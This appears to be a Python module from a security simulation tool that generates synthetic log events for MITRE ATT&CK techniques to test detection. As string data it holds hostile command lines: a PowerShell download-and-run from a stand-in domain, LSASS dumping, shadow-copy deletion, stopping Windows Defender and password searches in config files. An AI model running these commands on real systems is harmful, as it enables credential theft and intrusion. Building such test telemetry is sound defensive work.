"""
Content filling collaborators.

The synthesizer and detection simulator delegate the free-form parts of
events (command lines, user names, domains, alert reasons) to a
``ContentFiller``. A remote AI backend can implement the protocol; the
``FakerContentFiller`` shipped here produces ECS-style fields locally.

Output of ``FakerContentFiller`` depends only on its seed and the call
arguments, so concurrent calls complete in any order without changing
the result.
"""

import random
import zlib
from collections.abc import Callable, Sequence
from typing import Any, Protocol, runtime_checkable

from faker import Faker

from campaign_forge.simulation.mitre_attack import (
    DataSource,
    Technique,
    dataset_for,
    get_technique_by_id,
)
from campaign_forge.simulation.models import Stage, SynthesizedEvent


@runtime_checkable
class ContentFiller(Protocol):
    """Fills free-form event content for techniques and alerts."""

    async def fill_content(
        self,
        technique: str,
        narrative: str,
        target_asset: str,
    ) -> dict[str, Any]:
        """Return enrichment fields for one technique execution."""
        ...

    async def fill_alert_content(
        self,
        stage: Stage,
        events: Sequence[SynthesizedEvent],
    ) -> dict[str, Any]:
        """Return enrichment fields for an alert raised on ``events``."""
        ...


SUSPICIOUS_PROCESSES = {
    "T1059.001": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "T1059.003": "C:\\Windows\\System32\\cmd.exe",
    "T1047": "C:\\Windows\\System32\\wbem\\WMIC.exe",
    "T1003.001": "C:\\Windows\\Temp\\procdump64.exe",
    "T1053.005": "C:\\Windows\\System32\\schtasks.exe",
    "T1490": "C:\\Windows\\System32\\vssadmin.exe",
    "T1486": "C:\\ProgramData\\svchost.exe",
    "T1562.001": "C:\\Windows\\System32\\sc.exe",
    "T1560.001": "C:\\Program Files\\7-Zip\\7z.exe",
}

COMMAND_LINES = {
    "T1059.001": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "T1059.003": "cmd.exe /c whoami && net user && systeminfo",
    "T1047": 'wmic process call create "cmd.exe /c rundll32.exe"',
    "T1003.001": "procdump64.exe -accepteula -ma lsass.exe lsass.dmp",
    "T1053.005": 'schtasks /create /tn "SecurityUpdate" /tr "powershell.exe" /sc daily',
    "T1057": "tasklist /v",
    "T1018": "net view /domain",
    "T1082": "systeminfo",
    "T1083": "dir /s /b C:\\Users\\*.docx",
    "T1135": "net share",
    "T1490": "vssadmin.exe delete shadows /all /quiet",
    "T1562.001": "sc stop WinDefend",
    "T1070.004": "cmd.exe /c del /f /q C:\\Users\\Public\\*.zip",
    "T1560.001": "7z.exe a -pinfected archive.7z C:\\Staging\\*",
}

POWERSHELL_SCRIPTS = {
    "T1059.001": "IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a.ps1')",
    "T1105": "Invoke-WebRequest -Uri 'http://{domain}/payload.exe' -OutFile 'C:\\temp\\payload.exe'",
    "T1552.001": "Get-ChildItem -Recurse -Include *.config,*.env | Select-String password",
}

REGISTRY_KEYS = {
    "T1547.001": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityUpdate",
    "T1543.003": "HKLM\\System\\CurrentControlSet\\Services\\UpdateSvc",
    "T1562.001": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
}

USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0)",
    "python-requests/2.31.0",
)


class FakerContentFiller:
    """
    Local content filler backed by Faker.

    Each call reseeds a private Faker instance and ``random.Random`` from
    ``seed`` and the call arguments.
    """

    def __init__(self, seed: int = 0, locale: str = "en_US") -> None:
        self.seed = seed
        self.fake = Faker(locale)
        self._generators: dict[DataSource, Callable[[random.Random, str, str], dict[str, Any]]] = {
            DataSource.PROCESS_CREATION: self._process_fields,
            DataSource.POWERSHELL_LOG: self._powershell_fields,
            DataSource.AUTHENTICATION_LOG: self._authentication_fields,
            DataSource.KERBEROS_LOG: self._kerberos_fields,
            DataSource.NETWORK_CONNECTION: self._network_fields,
            DataSource.FIREWALL_LOG: self._network_fields,
            DataSource.DNS_QUERY: self._dns_fields,
            DataSource.PROXY_LOG: self._proxy_fields,
            DataSource.APPLICATION_LOG: self._proxy_fields,
            DataSource.FILE_CREATION: self._file_fields,
            DataSource.FILE_MODIFICATION: self._file_fields,
            DataSource.REGISTRY_KEY_MODIFICATION: self._registry_fields,
            DataSource.SERVICE_CREATION: self._service_fields,
            DataSource.SCHEDULED_TASK: self._service_fields,
            DataSource.EMAIL_LOG: self._email_fields,
            DataSource.CLOUD_AUDIT_LOG: self._cloud_fields,
            DataSource.PACKAGE_MANAGER_LOG: self._package_fields,
            DataSource.DEVICE_CONNECTION: self._device_fields,
        }

    def _reseed(self, *parts: str) -> random.Random:
        key = "|".join(parts).encode("utf-8")
        call_seed = zlib.crc32(key) ^ self.seed
        self.fake.seed_instance(call_seed)
        return random.Random(call_seed)

    async def fill_content(
        self,
        technique: str,
        narrative: str,
        target_asset: str,
    ) -> dict[str, Any]:
        rng = self._reseed(technique, narrative, target_asset)
        definition = get_technique_by_id(technique)
        if definition is None or not definition.data_sources:
            return {
                "data_stream.dataset": "generic.log",
                "event.category": "host",
                "event.action": "unknown-activity",
                "message": f"{technique} observed on {target_asset}",
            }

        data_source = definition.data_sources[0]
        dataset, category = dataset_for(data_source)
        fields = {
            "data_stream.dataset": dataset,
            "event.category": category,
            "event.action": data_source.value,
            "threat.technique.name": definition.name,
            "threat.tactic.name": definition.primary_tactic.value,
            "message": f"{definition.name} observed on {target_asset}",
        }
        fields.update(self._generators[data_source](rng, definition.id, target_asset))
        return fields

    async def fill_alert_content(
        self,
        stage: Stage,
        events: Sequence[SynthesizedEvent],
    ) -> dict[str, Any]:
        technique = events[0].technique if events else ""
        rng = self._reseed(stage.id, technique, str(len(events)))
        source_user = events[0].fields.get("user.name") if events else None
        return {
            "user.name": source_user or self.fake.user_name(),
            "kibana.alert.reason": (
                f"{technique} activity during {stage.name} on "
                f"{len({e.source_asset for e in events})} host(s)"
            ),
            "kibana.alert.risk_score": rng.randint(21, 99),
            "kibana.alert.workflow_status": "open",
        }

    # -------------------------------------------------------------------------
    # Per data source field generators
    # -------------------------------------------------------------------------

    def _attacker_ip(self, rng: random.Random) -> str:
        return f"{rng.choice([45, 91, 185, 194, 222])}.{rng.randint(1, 255)}.{rng.randint(1, 255)}.{rng.randint(1, 254)}"

    def _suspicious_domain(self, rng: random.Random) -> str:
        word = self.fake.word()
        return rng.choice([f"update-{word}.com", f"cdn-{word}.net", f"api-{word}.io"])

    def _user(self, rng: random.Random) -> str:
        return rng.choice([self.fake.user_name(), "svc_backup", "Administrator"])

    def _process_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        executable = SUSPICIOUS_PROCESSES.get(technique, "C:\\Windows\\System32\\rundll32.exe")
        return {
            "process.executable": executable,
            "process.name": executable.rsplit("\\", 1)[-1],
            "process.command_line": COMMAND_LINES.get(technique, f"rundll32.exe {technique}"),
            "process.pid": rng.randint(1000, 65535),
            "process.parent.name": rng.choice(["explorer.exe", "cmd.exe", "services.exe"]),
            "user.name": self._user(rng),
            "host.os.type": "windows",
        }

    def _powershell_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        script = POWERSHELL_SCRIPTS.get(technique, "$x = Get-Process")
        return {
            "powershell.file.script_block_text": script.format(domain=self._suspicious_domain(rng)),
            "winlog.event_id": 4104,
            "process.name": "powershell.exe",
            "user.name": self._user(rng),
        }

    def _authentication_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        success = rng.random() > 0.3
        return {
            "winlog.event_id": 4624 if success else 4625,
            "winlog.logon.type": rng.choice(["Network", "RemoteInteractive", "Interactive"]),
            "event.outcome": "success" if success else "failure",
            "user.name": self._user(rng),
            "source.ip": self._attacker_ip(rng),
        }

    def _kerberos_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "winlog.event_id": 4769,
            "winlog.event_data.TicketEncryptionType": "0x17",
            "winlog.event_data.ServiceName": f"MSSQLSvc/{host.lower()}:1433",
            "user.name": self._user(rng),
        }

    def _network_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "destination.ip": self._attacker_ip(rng),
            "destination.port": rng.choice([80, 443, 445, 3389, 4444, 8080]),
            "source.port": rng.randint(49152, 65535),
            "network.transport": "tcp",
            "network.bytes": rng.randint(500, 5_000_000),
        }

    def _dns_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "dns.question.name": self._suspicious_domain(rng),
            "dns.question.type": rng.choice(["A", "AAAA", "TXT"]),
            "dns.resolved_ip": [self._attacker_ip(rng)],
        }

    def _proxy_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "url.domain": self._suspicious_domain(rng),
            "url.path": rng.choice(["/upload", "/api/v1/sync", "/index.php"]),
            "http.request.method": rng.choice(["GET", "POST"]),
            "http.response.status_code": rng.choice([200, 200, 302, 404]),
            "http.request.bytes": rng.randint(100, 50_000_000),
            "user_agent.original": rng.choice(USER_AGENTS),
        }

    def _file_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        extension = rng.choice(["exe", "dll", "ps1", "zip", "docx"])
        name = f"{self.fake.word()}.{extension}"
        directory = rng.choice(["C:\\Windows\\Temp", "C:\\Users\\Public", "C:\\ProgramData"])
        return {
            "file.name": name,
            "file.extension": extension,
            "file.path": f"{directory}\\{name}",
            "file.size": rng.randint(1_024, 50_000_000),
        }

    def _registry_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "registry.path": REGISTRY_KEYS.get(
                technique, "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
            ),
            "registry.data.strings": [COMMAND_LINES.get(technique, "C:\\ProgramData\\updater.exe")],
            "process.name": rng.choice(["reg.exe", "powershell.exe"]),
        }

    def _service_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "winlog.event_id": 4698 if technique.startswith("T1053") else 7045,
            "service.name": rng.choice(["UpdateSvc", "SecurityHealth", "WinTelemetry"]),
            "user.name": "SYSTEM",
        }

    def _email_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "email.from.address": self.fake.free_email(),
            "email.to.address": [self.fake.company_email()],
            "email.subject": rng.choice(["Invoice overdue", "Updated benefits policy", "Shared document"]),
            "email.attachments.file.name": f"{self.fake.word()}.docm",
        }

    def _cloud_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "cloud.provider": rng.choice(["aws", "azure", "gcp"]),
            "cloud.region": rng.choice(["us-east-1", "eu-west-1", "westeurope"]),
            "user.name": self.fake.user_name(),
            "source.ip": self._attacker_ip(rng),
        }

    def _package_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "package.name": f"{self.fake.word()}-utils",
            "package.version": f"{rng.randint(0, 4)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}",
            "package.type": rng.choice(["npm", "pypi", "nuget"]),
        }

    def _device_fields(self, rng: random.Random, technique: str, host: str) -> dict[str, Any]:
        return {
            "device.model.name": rng.choice(["SanDisk Ultra", "Kingston DataTraveler"]),
            "device.serial_number": self.fake.bothify("??######").upper(),
            "user.name": self.fake.user_name(),
        }


def technique_data_source(technique: str) -> DataSource | None:
    definition: Technique | None = get_technique_by_id(technique)
    if definition is None or not definition.data_sources:
        return None
    return definition.data_sources[0]
